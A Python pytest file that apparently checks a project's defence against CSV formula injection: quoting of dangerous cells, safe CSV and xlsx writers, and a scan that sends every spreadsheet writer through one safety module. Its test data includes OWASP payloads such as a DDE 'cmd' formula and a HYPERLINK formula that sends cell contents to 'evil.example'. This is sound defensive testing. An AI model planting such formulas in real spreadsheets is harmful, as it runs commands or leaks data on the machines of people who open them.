"""Formula injection (OWASP "CSV injection"): the cell rules, and no export that bypasses them."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from qinqing.core import cellsafety

# OWASP's payload list (https://owasp.org/www-community/attacks/CSV_Injection), plus tab/CR-prefixed ones.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_given_a_payload_when_neutralised_then_quoted_and_the_import_gets_it_back(payload):
    safe = cellsafety.neutralise(payload)

    assert safe == "'" + payload
    assert cellsafety.unquote(safe) == payload


@pytest.mark.parametrize(
    "value", ["岳阳县洞庭食品有限公司", "-12.5", "+86", "3e5", "", "a=b", 12, -3, Decimal("-1.5"), None]
)
def test_given_plain_text_or_a_number_when_neutralised_then_unchanged(value):
    assert cellsafety.neutralise(value) == value


def test_given_rows_with_payloads_when_written_as_csv_then_no_cell_starts_a_formula():
    out = io.StringIO()
    cellsafety.csv_writer(out).writerows([[p, 1, "-7"] for p in PAYLOADS])

    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert not [c for c in cells if cellsafety.is_dangerous(c)]
    assert "'=cmd|' /C calc'!A0" in cells and "-7" in cells


def test_given_payloads_when_written_with_the_safe_workbook_then_text_cells_not_formulas():
    buffer = io.BytesIO()
    book = cellsafety.workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet()
    for row, payload in enumerate(PAYLOADS):
        sheet.write(row, 0, payload)  # plain write(): xlsxwriter would otherwise make "=…" a formula
        sheet.write_row(row, 1, [payload, "http://evil.example/"])
    book.close()

    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type == "s" for cell in cells)
    # xlsx stores a carriage return as _x000D_, which openpyxl does not decode
    texts = [sheet.cell(row=i + 1, column=1).value.replace("_x000D_", "\r") for i in range(len(PAYLOADS))]
    assert texts == PAYLOADS


# Writers of spreadsheet files must come from core.cellsafety. Anything listed here writes no file a person
# opens in a spreadsheet program.
ALLOWED_WRITERS = {
    "qinqing/core/cellsafety.py",  # the safe writers themselves
    "qinqing/registry/importing/sqlwrite.py",  # polars write_csv into PostgreSQL COPY, never a download
}
WRITER_CALLS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|\.write_excel\(")


def test_given_the_source_when_scanned_then_every_spreadsheet_writer_goes_through_cellsafety():
    root = Path(__file__).resolve().parents[3]
    offenders = []
    for path in sorted((root / "qinqing").rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if "/tests/" in relative or "/migrations/" in relative or relative in ALLOWED_WRITERS:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if WRITER_CALLS.search(line):
                offenders.append(f"{relative}:{number}: {line.strip()}")
    assert not offenders, "write spreadsheets through qinqing.core.cellsafety (csv_writer / workbook):\n" + "\n".join(
        offenders
    )


def test_given_a_quoted_csv_export_when_imported_then_the_registry_reads_the_original_text(tmp_path):
    from qinqing.registry.exporting import write_csv
    from qinqing.registry.importing.columns import ENTERPRISE_COLUMNS
    from qinqing.registry.importing.reader import read_table

    row = [None] * len(ENTERPRISE_COLUMNS)
    name_at = next(i for i, c in enumerate(ENTERPRISE_COLUMNS) if c.key == "name")
    row[name_at] = "=HYPERLINK(1)"
    out = io.StringIO()
    write_csv(ENTERPRISE_COLUMNS, [row], out)
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")

    assert "'=HYPERLINK(1)" in out.getvalue()
    assert read_table(path).rows[0][name_at] == "=HYPERLINK(1)"
